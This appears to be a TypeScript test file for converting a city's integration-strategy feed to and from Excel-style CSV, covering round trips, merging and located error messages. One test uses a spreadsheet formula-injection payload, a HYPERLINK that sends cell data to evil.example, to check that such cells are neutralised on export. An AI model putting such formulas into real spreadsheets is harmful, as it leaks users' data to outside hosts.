import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import { formatCsvProblem, measuresFromCsv, measuresToCsv, type MeasuresFragment } from '../src/csv/index.js';
import { formatCsv, parseCsv } from '../src/csv/parse.js';
import type { Feed } from '../src/index.js';

const sampleText = readFileSync(new URL('../../../demo/feeds/hannover.json', import.meta.url), 'utf8');
const sample = (): any => JSON.parse(sampleText);

/** A ";"-CSV from a header and rows, as German Excel saves it. */
const csv = (header: string[], ...rows: string[][]): string => formatCsv([header, ...rows], ';');

const MINIMAL = ['field', 'goal', 'id', 'status', 'status_date', 'title_de'];

/** The problems as "row, letter, column, code" for compact assertions. */
const located = (result: ReturnType<typeof measuresFromCsv>) => {
  assert.equal(result.ok, false, 'expected problems');
  return result.problems.map((p) => [p.row, p.letter, p.column, p.code]);
};

const merged = (text: string, feed: unknown = sample()): Feed => {
  const result = measuresFromCsv(text, { feed });
  assert.ok(result.ok, result.ok ? '' : result.problems.map(formatCsvProblem).join('\n'));
  return result.result as Feed;
};

const measure = (feed: Feed, id: string): any => {
  for (const field of feed.actionFields) for (const goal of field.goals) for (const m of goal.measures) if (m.id == id) return m;
};

describe('round trip: measures-to-csv, then measures-from-csv', () => {
  test('merged into the sample feed, the feed comes back byte for byte', () => {
    for (const delimiter of [';', ','] as const) {
      const { csv: text, problems } = measuresToCsv(sample(), { delimiter });
      assert.deepEqual(problems, []);
      assert.equal(parseCsv(text).rows.length, 53, 'a header and one row per measure');
      const result = measuresFromCsv(text, { feed: sample() });
      assert.ok(result.ok, result.ok ? '' : result.problems.map(formatCsvProblem).join('\n'));
      assert.equal(JSON.stringify(result.result, null, 2) + '\n', sampleText, `delimiter ${delimiter}`);
      assert.deepEqual(result.summary, { measures: 52, goals: 20, added: [], moved: [], removed: [], statusChanged: [], newGoals: [] });
    }
  });

  test('without a feed, the same measures with only the current status and no indicator series (both live in the feed)', () => {
    const result = measuresFromCsv(measuresToCsv(sample()).csv);
    assert.ok(result.ok);
    const fragment = result.result as MeasuresFragment;
    const feed = sample();
    assert.deepEqual(
      fragment.actionFields.map((f) => f.id),
      feed.actionFields.map((f: any) => f.id),
    );
    feed.actionFields.forEach((field: any, fi: number) =>
      field.goals.forEach((goal: any, gi: number) => {
        const got = fragment.actionFields[fi].goals[gi];
        assert.deepEqual(got.title, goal.title);
        assert.deepEqual(got.description, goal.description);
        assert.deepEqual(
          got.measures,
          goal.measures.map((m: any) => {
            const copy = { ...m, status: m.status.slice(-1) };
            if (m.indicators) copy.indicators = m.indicators.map(({ series: _, ...indicator }: any) => indicator);
            return copy;
          }),
        );
      }),
    );
  });

  test('decimal numbers survive both locales (21.5 is written 21,5 in a ";"-file)', () => {
    const text = measuresToCsv(sample()).csv;
    assert.match(text, /;21,5;2025-12;/);
    assert.match(measuresToCsv(sample(), { delimiter: ',' }).csv, /,21\.5,2025-12,/);
  });

  test('the export names the goal once, on its first row, and lists partners and themes with "|"', () => {
    const rows = parseCsv(measuresToCsv(sample()).csv).rows;
    const header = rows[0];
    const col = (name: string) => header.indexOf(name);
    assert.equal(rows[1][col('goal_title_de')], 'Interkulturelle Öffnung des Bildungssystems');
    assert.equal(rows[2][col('goal_title_de')], '');
    assert.equal(rows[1][col('themes')], 'diversitaet | gleichbehandlung');
    assert.equal(rows[1][col('partners_de')], 'Regionales Landesamt für Schule und Bildung Hannover | Ada-und-Theodor-Lessing-Volkshochschule Hannover');
    assert.deepEqual(header.slice(0, 6), ['field', 'goal', 'goal_title_de', 'goal_title_en', 'goal_description_de', 'id']);
    assert.ok(header.includes('indicator2_current_date'), 'as many indicator groups as the fullest measure needs');
  });

  test('texts a spreadsheet would run as formulas are exported behind an apostrophe and come back exactly; numbers stay numbers', () => {
    const feed = sample();
    const m = feed.actionFields[0].goals[0].measures[0];
    const formula = '=HYPERLINK("https://evil.example/?d="&A2;"Details")';
    m.title = { de: formula, en: "'=already quoted" };
    m.description = { de: '- erster Punkt\n- zweiter', en: '+49 511 168-0' };
    m.responsible = '@SUM(1+1)';
    m.indicators = [{ id: 'neg', title: { de: '\tTab' }, unit: '%', baseline: { value: -5, date: '2020' }, target: { value: 0, date: '2030' } }];
    for (const delimiter of [';', ','] as const) {
      const { csv: text, problems } = measuresToCsv(feed, { delimiter });
      assert.deepEqual(problems, []);
      const [header, row] = parseCsv(text).rows;
      const cell = (name: string) => row[header.indexOf(name)];
      assert.equal(cell('title_de'), `'${formula}`);
      assert.equal(cell('title_en'), "''=already quoted");
      assert.equal(cell('description_de'), "'- erster Punkt\n- zweiter");
      assert.equal(cell('description_en'), "'+49 511 168-0");
      assert.equal(cell('responsible_de'), "'@SUM(1+1)");
      assert.equal(cell('indicator_title_de'), "'\tTab");
      assert.equal(cell('indicator_baseline'), '-5');
      assert.equal(cell('goal_title_de'), sample().actionFields[0].goals[0].title.de ?? sample().actionFields[0].goals[0].title);
      const back = measuresFromCsv(text, { feed });
      assert.ok(back.ok, back.ok ? '' : back.problems.map(formatCsvProblem).join('\n'));
      assert.deepEqual(measure(back.result as Feed, m.id), m);
    }
    // Typed by an editor: one apostrophe before a formula character comes off, any other stays.
    const typed = measuresFromCsv(csv(['field', 'goal', 'id', 'status', 'status_date', 'title_de', 'description_de'], ['f', 'g', 'm', 'done', '2025', "'-5 Grad", "'Tis"]));
    assert.ok(typed.ok);
    const goal = (typed.result as MeasuresFragment).actionFields[0].goals[0];
    assert.deepEqual([goal.measures[0].title, goal.measures[0].description], ['-5 Grad', "'Tis"]);
  });

  test('language tags that differ only in case share one column and come back as the feed spells them', () => {
    const feed = sample();
    const m = feed.actionFields[0].goals[0].measures[1];
    m.title = { de: typeof m.title == 'string' ? m.title : m.title.de, EN: 'Multilingual parent guides' };
    m.description = { DE: 'Beschreibung', 'de-X-LS': 'Leicht' };
    const text = JSON.stringify(feed, null, 2) + '\n';
    const { csv: exported, problems } = measuresToCsv(feed);
    assert.deepEqual(problems, []);
    const header = parseCsv(exported).rows[0];
    assert.deepEqual(header.filter((h) => /^(title|description)_/.test(h)), ['title_de', 'title_en', 'description_de', 'description_de-x-ls']);
    const back = measuresFromCsv(exported, { feed: JSON.parse(text) });
    assert.ok(back.ok, back.ok ? '' : back.problems.map(formatCsvProblem).join('\n'));
    assert.equal(JSON.stringify(back.result, null, 2) + '\n', text);
  });

  test('a text with two keys for one language ("en" and "EN") is reported, not half exported', () => {
    const feed = sample();
    feed.actionFields[0].goals[0].measures[0].title = { de: 'x', en: 'one', EN: 'two' };
    const { problems } = measuresToCsv(feed);
    assert.deepEqual(
      problems.map((p) => [p.row, p.code, p.path]),
      [[2, 'duplicate-language', '$.actionFields[0].goals[0].measures[0].title']],
    );
  });

  test('a "|" inside a partner\'s name cannot be written (it would come back as two partners)', () => {
    const feed = sample();
    feed.actionFields[0].goals[0].measures[0].partners[1] = 'Schule A | B';
    const { problems } = measuresToCsv(feed);
    assert.deepEqual(problems.map((p) => [p.path, p.code]), [['$.actionFields[0].goals[0].measures[0].partners[1]', 'partners-separator']]);
  });
});

describe('column mapping (without a feed)', () => {
  test('the required columns alone make a measure; one language gives plain strings', () => {
    const result = measuresFromCsv(csv(MINIMAL, ['bildung', 'bildung-z1', 'bildung-m1', 'accepted', '2021-11-08', 'Fortbildung']));
    assert.ok(result.ok);
    assert.deepEqual(result.result, {
      actionFields: [
        {
          id: 'bildung',
          goals: [
            { id: 'bildung-z1', measures: [{ id: 'bildung-m1', title: 'Fortbildung', status: [{ status: 'accepted', date: '2021-11-08' }], themes: [] }] },
          ],
        },
      ],
    });
    assert.equal(result.delimiter, ';');
  });

  test('every column, in any order, with two languages and two indicators', () => {
    const header = [
      'id', 'field', 'goal', 'goal_title_de', 'goal_title_en', 'title_de', 'title_en', 'description_de', 'status', 'status_date',
      'status_note_de', 'status_note_en', 'responsible_de', 'partners_de', 'partners_en', 'themes', 'contributed_by',
      'indicator_id', 'indicator_title_de', 'indicator_unit_de', 'indicator_unit_en', 'indicator_baseline', 'indicator_baseline_date',
      'indicator_target', 'indicator_target_date', 'indicator_current', 'indicator_current_date',
      'indicator2_id', 'indicator2_title_de', 'indicator2_unit_de', 'indicator2_baseline', 'indicator2_baseline_date',
      'indicator2_target', 'indicator2_target_date', '# Bemerkung',
    ];
    const row = [
      'bildung-m1', 'bildung', 'bildung-z1', 'Öffnung', 'Opening', 'Fortbildung', 'Training', 'Zeile 1\nZeile 2', 'In Progress', '09.2022',
      'Läuft', 'Running', 'Fachbereich Schule', 'Landesamt | VHS | Schulen', 'State office | | Schools', 'diversitaet|gleichbehandlung, kommunikation', 'ag-jugend',
      'bildung-i1', 'Fortgebildete', 'Personen', 'people', '0', '2021', '1.400,5', '2026', '265', '31.12.2025',
      'bildung-i2', 'Quote', '%', '12,5', '2021', '20', '2026', 'nur für uns',
    ];
    const result = measuresFromCsv(csv(header, row));
    assert.ok(result.ok, result.ok ? '' : result.problems.map(formatCsvProblem).join('\n'));
    const goal = (result.result as MeasuresFragment).actionFields[0].goals[0];
    assert.deepEqual(goal.title, { de: 'Öffnung', en: 'Opening' });
    assert.deepEqual(goal.measures[0], {
      id: 'bildung-m1',
      title: { de: 'Fortbildung', en: 'Training' },
      description: 'Zeile 1\nZeile 2',
      status: [{ status: 'in-progress', date: '2022-09', note: { de: 'Läuft', en: 'Running' } }],
      responsible: 'Fachbereich Schule',
      partners: [{ de: 'Landesamt', en: 'State office' }, 'VHS', { de: 'Schulen', en: 'Schools' }],
      themes: ['diversitaet', 'gleichbehandlung', 'kommunikation'],
      contributedBy: 'ag-jugend',
      indicators: [
        {
          id: 'bildung-i1',
          title: 'Fortgebildete',
          unit: { de: 'Personen', en: 'people' },
          baseline: { value: 0, date: '2021' },
          target: { value: 1400.5, date: '2026' },
          current: { value: 265, date: '2025-12-31' },
        },
        { id: 'bildung-i2', title: 'Quote', unit: '%', baseline: { value: 12.5, date: '2021' }, target: { value: 20, date: '2026' } },
      ],
    });
  });

  test('blank rows anywhere and a trailing run of empty rows are skipped; row numbers stay those of the sheet', () => {
    const text = csv(MINIMAL, ['', '', '', '', '', ''], ['a', 'a-z1', 'a-m1', 'done', '2024', 'A'], ['', '', '', '', '', ''], ['a', 'a-z1', 'a-m2', 'nope', '2024', 'B'], ['', '', '', '', '', ''], ['']);
    const result = measuresFromCsv(text);
    assert.deepEqual(located(result), [[5, 'D', 'status', 'enum']]);
  });

  test('the default language without a feed is the first title column\'s', () => {
    const result = measuresFromCsv(csv(['field', 'goal', 'id', 'status', 'status_date', 'title_en', 'title_de'], ['a', 'a-z1', 'a-m1', 'done', '2024', 'Title', 'Titel']));
    assert.ok(result.ok);
    assert.deepEqual((result.result as MeasuresFragment).actionFields[0].goals[0].measures[0].title, { en: 'Title', de: 'Titel' });
  });

  test('a ","-file with decimal points, sniffed from its header', () => {
    const text = ['field,goal,id,status,status_date,title_de,indicator_id,indicator_title_de,indicator_unit_de,indicator_baseline,indicator_baseline_date,indicator_target,indicator_target_date',
      'a,a-z1,a-m1,done,2024,"Titel, mit Komma",a-i1,Quote,%,"12.5",2021,20.25,2026', ''].join('\r\n');
    const result = measuresFromCsv(text);
    assert.ok(result.ok, result.ok ? '' : result.problems.map(formatCsvProblem).join('\n'));
    const m = (result.result as MeasuresFragment).actionFields[0].goals[0].measures[0];
    assert.equal(m.title, 'Titel, mit Komma');
    assert.deepEqual([m.indicators![0].baseline.value, m.indicators![0].target.value], [12.5, 20.25]);
  });
});

describe('merging into the sample feed', () => {
  const z1 = (...rows: string[][]) =>
    csv(['field', 'goal', 'id', 'title_de', 'status', 'status_date'], ...rows.map((r) => ['bildung', 'bildung-z1', ...r]));
  const z1Rows = [
    ['bildung-m1', 'Fortbildungsreihe „Vielfalt im Klassenzimmer“', 'in-progress', '2022-09'],
    ['bildung-m2', 'Mehrsprachige Elternlots*innen an Grundschulen', 'in-progress', '2022-08'],
    ['bildung-m3', 'Schüler*innen-Beiräte für Vielfalt an weiterführenden Schulen', 'in-progress', '2023-02'],
    ['bildung-m4', 'Interreligiöse Bildung in der Jugendarbeit', 'in-progress', '2023-01'],
  ];

  test('columns the CSV lacks keep the feed\'s values (and languages); everything else is untouched', () => {
    const feed = merged(z1(...z1Rows));
    assert.deepEqual(feed, sample());
  });

  test('a changed text replaces its language only; an empty cell of a present column removes the value', () => {
    const feed = merged(
      csv(
        ['field', 'goal', 'id', 'title_de', 'status', 'status_date', 'description_de', 'responsible_de'],
        ...z1Rows.map((r, i) => ['bildung', 'bildung-z1', ...r, i ? 'Neu' : '', i ? 'Amt' : '']),
      ),
    );
    const m1 = measure(feed, 'bildung-m1');
    assert.equal(m1.description, undefined);
    assert.equal(m1.responsible, undefined);
    assert.deepEqual(Object.keys(m1), ['id', 'title', 'status', 'partners', 'themes', 'indicators']);
    assert.equal(measure(feed, 'bildung-m2').description, 'Neu');
    const renamed = merged(z1(['bildung-m1', 'Neuer Titel', 'in-progress', '2022-09'], ...z1Rows.slice(1)));
    assert.deepEqual(measure(renamed, 'bildung-m1').title, { de: 'Neuer Titel', en: 'Training series “Diversity in the classroom”' });
  });

  test('goal texts: a cell on any one row of the goal replaces that language; empty cells keep it', () => {
    const feed = merged(
      csv(
        ['field', 'goal', 'goal_title_de', 'goal_description_de', 'id', 'title_de', 'status', 'status_date'],
        ...z1Rows.map((r, i) => ['bildung', 'bildung-z1', i == 2 ? 'Offene Bildung' : '', '', ...r]),
      ),
    );
    const goal = feed.actionFields[0].goals[0];
    assert.deepEqual(goal.title, { de: 'Offene Bildung', en: 'Intercultural opening of the education system' });
    assert.deepEqual(goal.description, sample().actionFields[0].goals[0].description);
  });

  test('the same status updates the current entry; another status is appended; the history stays', () => {
    const feed = merged(z1(['bildung-m1', 'x', 'in-progress', '2022-10'], ['bildung-m2', 'y', 'done', '2025-06'], ...z1Rows.slice(2)));
    const before = measure(sample(), 'bildung-m1').status;
    assert.deepEqual(measure(feed, 'bildung-m1').status, [...before.slice(0, -1), { status: 'in-progress', date: '2022-10' }]);
    assert.deepEqual(measure(feed, 'bildung-m2').status.slice(-2), [
      { status: 'in-progress', date: '2022-08' },
      { status: 'done', date: '2025-06' },
    ]);
    const result = measuresFromCsv(z1(['bildung-m1', 'x', 'in-progress', '2022-10'], ['bildung-m2', 'y', 'done', '2025-06'], ...z1Rows.slice(2)), { feed: sample() });
    assert.ok(result.ok);
    assert.deepEqual(result.summary.statusChanged, ['bildung-m2']);
  });

  test('a note left in the cell from the previous status stays with it; a new note goes with the new status', () => {
    const header = ['field', 'goal', 'id', 'title_de', 'status', 'status_date', 'status_note_de', 'status_note_en'];
    const feed = sample();
    const m5 = measure(feed, 'bildung-m5');
    const oldNote = m5.status.at(-1).note;
    const rows = (note: string[]) =>
      csv(header, ['bildung', 'bildung-z2', 'bildung-m5', 'x', 'accepted', '2025', ...note]);
    const kept = measure(merged(rows([oldNote.de, oldNote.en]), feed), 'bildung-m5').status;
    assert.deepEqual(kept.at(-1), { status: 'accepted', date: '2025' });
    assert.deepEqual(kept.at(-2).note, oldNote);
    const fresh = measure(merged(rows(['Doch beschlossen', '']), sample()), 'bildung-m5').status;
    assert.deepEqual(fresh.at(-1), { status: 'accepted', date: '2025', note: 'Doch beschlossen' });
  });

  test('new measures, moved measures, removed measures and new goals, reported in the summary', () => {
    const header = ['field', 'goal', 'goal_title_de', 'id', 'title_de', 'status', 'status_date'];
    const result = measuresFromCsv(
      csv(
        header,
        ['bildung', 'bildung-z1', '', 'bildung-m1', 'a', 'in-progress', '2022-09'],
        ['bildung', 'bildung-z1', '', 'bildung-m5', 'moved here', 'recommendation', '2021-11-08'],
        ['bildung', 'bildung-z1', '', 'bildung-m99', 'new', 'proposed', '2026-01'],
        ['bildung', 'bildung-z9', 'Ein neues Ziel', 'bildung-m98', 'in a new goal', 'proposed', '2026-01'],
        ['bildung', 'bildung-z9', '', 'bildung-m97', 'also there', 'proposed', '2026-02'],
      ),
      { feed: sample() },
    );
    assert.ok(result.ok, result.ok ? '' : result.problems.map(formatCsvProblem).join('\n'));
    assert.deepEqual(result.summary, {
      measures: 5,
      goals: 2,
      added: ['bildung-m99', 'bildung-m98', 'bildung-m97'],
      moved: ['bildung-m5'],
      removed: ['bildung-m2', 'bildung-m3', 'bildung-m4'],
      statusChanged: [],
      newGoals: ['bildung-z9'],
    });
    const feed = result.result as Feed;
    const goals = feed.actionFields[0].goals;
    assert.deepEqual(goals[0].measures.map((m) => m.id), ['bildung-m1', 'bildung-m5', 'bildung-m99']);
    assert.deepEqual(goals[1].measures.map((m) => m.id), ['bildung-m6', 'bildung-m7'], 'bildung-m5 left its old goal');
    assert.deepEqual(goals.at(-1), {
      id: 'bildung-z9',
      title: 'Ein neues Ziel',
      measures: [
        { id: 'bildung-m98', title: 'in a new goal', status: [{ status: 'proposed', date: '2026-01' }], themes: [] },
        { id: 'bildung-m97', title: 'also there', status: [{ status: 'proposed', date: '2026-02' }], themes: [] },
      ],
    });
    assert.deepEqual(measure(feed, 'bildung-m5').status, measure(sample(), 'bildung-m5').status, 'a moved measure keeps its history');
    const { actionFields: _a, ...rest } = feed;
    const { actionFields: _b, ...sampleRest } = sample();
    assert.deepEqual(rest, sampleRest);
    assert.deepEqual(feed.actionFields.slice(1), sample().actionFields.slice(1));
  });

  test('properties the converter does not know survive on goals, measures, status entries and indicators', () => {
    const feed = sample();
    const goal = feed.actionFields[0].goals[0];
    goal['x-owner'] = 'FB Schule';
    const m1 = goal.measures[0];
    m1['x-budget'] = { euro: 12000 };
    m1.status.at(-1)['x-source'] = 'Ratsbeschluss';
    m1.indicators[0].series = [{ value: 100, date: '2023' }, { value: 265, date: '2025-12' }];
    const { csv: text } = measuresToCsv(feed);
    const result = merged(text.replace(';2022-09;', ';2022-10;'), feed);
    const got = measure(result, 'bildung-m1');
    assert.equal((result.actionFields[0].goals[0] as any)['x-owner'], 'FB Schule');
    assert.deepEqual(got['x-budget'], { euro: 12000 });
    assert.deepEqual(got.status.at(-1), { status: 'in-progress', date: '2022-10', 'x-source': 'Ratsbeschluss' });
    assert.deepEqual(got.indicators[0].series, m1.indicators[0].series);
  });

  test('an invalid feed is refused with its own problems (paths, no rows)', () => {
    const feed = sample();
    delete feed.strategy.publisher;
    const result = measuresFromCsv(z1(...z1Rows), { feed });
    assert.deepEqual(result.ok ? [] : result.problems, [{ code: 'required', message: 'Missing required field "publisher".', path: '$.strategy.publisher' }]);
  });
});

describe('every problem names its row and column', () => {
  const feed = sample();
  const row = (status = 'in-progress', date = '2022-09', id = 'bildung-m1', goal = 'bildung-z1', field = 'bildung', title = 'Titel') => [field, goal, id, status, date, title];

  test('the issue\'s example: row 7, column D (status)', () => {
    const rows = [1, 2, 3, 4, 5].map((n) => row('in-progress', '2025', `bildung-m${n}`));
    const result = measuresFromCsv(csv(MINIMAL, ...rows, row('started', '2025', 'bildung-m6')), { feed });
    assert.equal(result.ok, false);
    assert.deepEqual(result.problems.map(formatCsvProblem), [
      'row 7, column D (status): "started" is not one of: proposed, accepted, deferred, recommendation, in-progress, done.',
    ]);
    assert.equal(result.problems[0].path, '$.actionFields[0].goals[0].measures[5].status[4].status');
  });

  test('CSV syntax: an unclosed quote stops reading; text after a quote is reported', () => {
    assert.deepEqual(located(measuresFromCsv(csv(MINIMAL, row()) + 'a;"b\r\n')), [[3, 'B', undefined, 'csv-unclosed-quote']]);
    const text = csv(MINIMAL, row()).replace(';Titel', ';"Titel"x');
    assert.deepEqual(located(measuresFromCsv(text, { feed })), [[2, 'F', undefined, 'csv-quote']]);
  });

  test('an empty file, missing columns', () => {
    assert.deepEqual(located(measuresFromCsv('')), [[1, undefined, undefined, 'empty']]);
    assert.deepEqual(located(measuresFromCsv('\uFEFF;;\r\n')), [[1, undefined, undefined, 'empty']]);
    const result = measuresFromCsv(csv(['id', 'goal', 'title_en'], ['a', 'b', 'c']), { feed });
    assert.deepEqual(located(result), [
      [1, undefined, undefined, 'missing-column'],
      [1, undefined, undefined, 'missing-column'],
      [1, undefined, undefined, 'missing-column'],
      [1, undefined, undefined, 'missing-column'],
    ]);
    assert.deepEqual(result.problems.map((p) => p.message.match(/"(.*?)"/)![1]), ['field', 'status', 'status_date', 'title_de']);
  });

  test('header problems: unknown, duplicate, bad language tag (the rest is still checked)', () => {
    const result = measuresFromCsv(csv([...MINIMAL, 'titel_en', 'Status', 'title_xx-', 'partners'], [...row('started'), 'x', 'y', 'z', 'w']), { feed });
    assert.deepEqual(located(result), [
      [1, 'G', 'titel_en', 'unknown-column'],
      [1, 'H', 'Status', 'duplicate-column'],
      [1, 'I', 'title_xx-', 'language-tag'],
      [1, 'J', 'partners', 'language-tag'],
      [2, 'D', 'status', 'enum'],
    ]);
  });

  test('empty required cells', () => {
    const result = measuresFromCsv(csv(MINIMAL, ['', '', '', '', '', 'Titel'], ['bildung', 'bildung-z1', 'bildung-m1', '', '', 'Titel']), { feed });
    assert.deepEqual(located(result), [
      [2, 'A', 'field', 'required'],
      [2, 'B', 'goal', 'required'],
      [2, 'C', 'id', 'required'],
      [2, 'D', 'status', 'required'],
      [2, 'E', 'status_date', 'required'],
      [3, 'D', 'status', 'required'],
      [3, 'E', 'status_date', 'required'],
    ]);
    assert.match(result.problems[2].message, /^Empty: every measure needs an id\.$/);
  });

  test('cells outside the table and in unnamed columns', () => {
    const result = measuresFromCsv(csv([...MINIMAL, ''], [...row(), 'oops', 'more']), { feed });
    assert.deepEqual(located(result), [
      [2, 'G', '', 'unnamed-column'],
      [2, 'H', undefined, 'extra-cell'],
    ]);
  });

  test('numbers: not a number, ambiguous; the missing value is not reported twice', () => {
    const header = [...MINIMAL, 'indicator_id', 'indicator_title_de', 'indicator_unit_de', 'indicator_baseline', 'indicator_baseline_date', 'indicator_target', 'indicator_target_date'];
    const result = measuresFromCsv(csv(header, [...row(), 'bildung-i1', 'T', 'P', 'zwölf', '2021', '1.400', '2026']), { feed });
    assert.deepEqual(located(result), [
      [2, 'J', 'indicator_baseline', 'number'],
      [2, 'L', 'indicator_target', 'number'],
    ]);
    assert.match(result.problems[1].message, /"1\.400" is ambiguous in a ";"-separated file/);
  });

  test('numbers: several thousands separators get a hint that works; a leading decimal mark is read in both locales', async () => {
    const { parseNumber } = await import('../src/csv/values.js');
    assert.deepEqual(parseNumber('12.345.678', ';'), { error: '"12.345.678" uses "." as a thousands separator; write 12345678 without it.' });
    assert.deepEqual(parseNumber('12,345,678', ','), { error: '"12,345,678" uses "," as a thousands separator; write 12345678 without it.' });
    assert.deepEqual(parseNumber('12345678', ';'), { value: 12345678 });
    for (const [raw, delimiter] of [[',5', ';'], ['.5', ';'], ['.5', ','], ['-,5', ';']] as const)
      assert.deepEqual(parseNumber(raw, delimiter), { value: raw.startsWith('-') ? -0.5 : 0.5 }, `${raw} in a ${delimiter}-file`);
  });

  test('dates: a converted spreadsheet date that is not in the calendar is reported with what the cell says', () => {
    const result = measuresFromCsv(csv(MINIMAL, row('in-progress', '31.02.2026')), { feed });
    assert.deepEqual(located(result), [[2, 'E', 'status_date', 'date']]);
    assert.match(result.problems[0].message, /^"2026-02-31" is not a real calendar date\. \(The cell says "31\.02\.2026", read as 2026-02-31\.\)$/);
  });

  test('an incomplete indicator: each missing part at its column', () => {
    const header = [...MINIMAL, 'indicator_id', 'indicator_title_de', 'indicator_unit_de', 'indicator_baseline', 'indicator_baseline_date', 'indicator_target', 'indicator_target_date'];
    const result = measuresFromCsv(csv(header, [...row('proposed', '2026', 'bildung-m99'), 'bildung-i1', 'T', '', '0', '2021', '', '']), { feed });
    assert.deepEqual(located(result), [
      [2, 'I', 'indicator_unit_de', 'required'],
      [2, 'L', 'indicator_target', 'required'],
    ]);
    const noId = measuresFromCsv(csv([...MINIMAL, 'indicator_title_de'], [...row(), 'T']), { feed });
    assert.deepEqual(noId.ok ? [] : noId.problems.map(formatCsvProblem).slice(0, 1), [
      'row 2: Missing required field "id". Add the column indicator_id.',
    ]);
  });

  test('partners: lists of different lengths', () => {
    const result = measuresFromCsv(csv([...MINIMAL, 'partners_de', 'partners_en'], [...row(), 'A | B | C', 'a | b']), { feed });
    assert.deepEqual(located(result), [[2, 'H', 'partners_en', 'partners-count']]);
    assert.match(result.problems[0].message, /^2 partners here, but 3 in partners_de/);
  });

  test('ids: twice in the CSV, or not an id', () => {
    const result = measuresFromCsv(csv(MINIMAL, row(), row('done', '2024', 'bildung-m1'), row('done', '2024', 'Bildung M2')), { feed });
    assert.deepEqual(located(result), [
      [3, 'C', 'id', 'duplicate-id'],
      [4, 'C', 'id', 'pattern'],
    ]);
    assert.match(result.problems[0].message, /"bildung-m1" is already used in row 2/);
  });

  test('action fields and goals: unknown, in the wrong field, new without a title, conflicting titles', () => {
    const header = ['field', 'goal', 'goal_title_de', 'id', 'status', 'status_date', 'title_de'];
    const result = measuresFromCsv(
      csv(
        header,
        ['bildungg', 'bildung-z1', '', 'bildung-m1', 'done', '2024', 'x'],
        ['soziales', 'bildung-z1', '', 'bildung-m2', 'done', '2024', 'x'],
        ['bildung', 'bildung-z8', '', 'bildung-m3', 'done', '2024', 'x'],
        ['bildung', 'bildung-z9', 'Neu', 'bildung-m4', 'done', '2024', 'x'],
        ['bildung', 'bildung-z9', 'Anders', 'bildung-m5', 'done', '2024', 'x'],
      ),
      { feed },
    );
    assert.deepEqual(located(result), [
      [2, 'A', 'field', 'unknown-field'],
      [3, 'B', 'goal', 'goal-field'],
      [4, 'B', 'goal', 'unknown-goal'],
      [6, 'C', 'goal_title_de', 'goal-conflict'],
    ]);
    assert.deepEqual(result.problems.map(formatCsvProblem).slice(0, 3), [
      'row 2, column A (field): Unknown action field "bildungg"; the feed has: bildung, soziales, demokratie, stadtleben-kultur, wirtschaft, stadtverwaltung.',
      'row 3, column B (goal): The goal "bildung-z1" belongs to the action field "bildung", not "soziales".',
      'row 4, column B (goal): Unknown goal "bildung-z8" in the action field "bildung" (it has: bildung-z1, bildung-z2, bildung-z3, bildung-z4); to create it, give its title in goal_title_de.',
    ]);
    const withoutFeed = measuresFromCsv(csv(MINIMAL, row(), row('done', '2024', 'bildung-m2', 'bildung-z1', 'soziales')));
    assert.deepEqual(located(withoutFeed), [[3, 'A', 'field', 'goal-field']]);
    const newGoalTwice = measuresFromCsv(
      csv(header, ['bildung', 'bildung-z9', 'Neu', 'bildung-m1', 'done', '2024', 'x'], ['soziales', 'bildung-z9', '', 'bildung-m2', 'done', '2024', 'x']),
      { feed },
    );
    assert.deepEqual(located(newGoalTwice), [[3, 'A', 'field', 'goal-field']], 'a new goal, too, belongs to one field');
  });

  test('dates: not a date (with a hint on spreadsheet formats), not in the calendar, before the feed\'s history', () => {
    const result = measuresFromCsv(
      csv(MINIMAL, row('in-progress', 'Sep 22'), row('in-progress', '2022-02-30', 'bildung-m2'), row('done', '2020', 'bildung-m3')),
      { feed },
    );
    assert.deepEqual(located(result), [
      [2, 'E', 'status_date', 'date'],
      [3, 'E', 'status_date', 'date'],
      [4, 'E', 'status_date', 'date-order'],
    ]);
    assert.match(result.problems[0].message, /"Sep 22" is not a date of the form YYYY, YYYY-MM or YYYY-MM-DD\. Spreadsheets may rewrite dates.*format the column as Text/);
    assert.doesNotMatch(result.problems[1].message, /Spreadsheets/);
    assert.match(result.problems[2].message, /The feed's history has "in-progress" from 2023-02; a new status cannot be dated earlier\./);
  });

  test('references: unknown themes and groups, at the column that names them', () => {
    const result = measuresFromCsv(csv([...MINIMAL, 'themes', 'contributed_by'], [...row(), 'diversitaet | vielfalt', 'ag-senioren']), { feed });
    assert.deepEqual(located(result), [
      [2, 'G', 'themes', 'dangling-reference'],
      [2, 'H', 'contributed_by', 'dangling-reference'],
    ]);
    assert.match(result.problems[0].message, /Unknown cross-cutting theme "vielfalt"/);
  });

  test('texts: only another language than the default one', () => {
    const result = measuresFromCsv(csv(['field', 'goal', 'id', 'status', 'status_date', 'title_de', 'title_en', 'description_en'], ['bildung', 'bildung-z1', 'bildung-m99', 'done', '2024', '', 'Title', 'Text']), { feed });
    assert.deepEqual(located(result), [
      [2, 'F', 'title_de', 'missing-default-language'],
      [2, 'H', 'description_en', 'missing-default-language'],
    ]);
  });

  test('problems come sorted by row and column, and formatted for people', () => {
    const result = measuresFromCsv(csv(MINIMAL, row('nope', 'x'), row('', '2024', 'bildung-m2')), { feed });
    assert.deepEqual(result.problems.map(formatCsvProblem), [
      'row 2, column D (status): "nope" is not one of: proposed, accepted, deferred, recommendation, in-progress, done.',
      'row 2, column E (status_date): "x" is not a date of the form YYYY, YYYY-MM or YYYY-MM-DD. Spreadsheets may rewrite dates in their own format: format the column as Text and type YYYY, YYYY-MM or YYYY-MM-DD.',
      'row 3, column D (status): Empty: every measure needs a status.',
    ]);
    assert.equal(formatCsvProblem({ code: 'required', message: 'Missing.', path: '$.strategy' }), '$.strategy: Missing.');
    assert.equal(formatCsvProblem({ row: 4, code: 'x', message: 'M.' }), 'row 4: M.');
  });
});
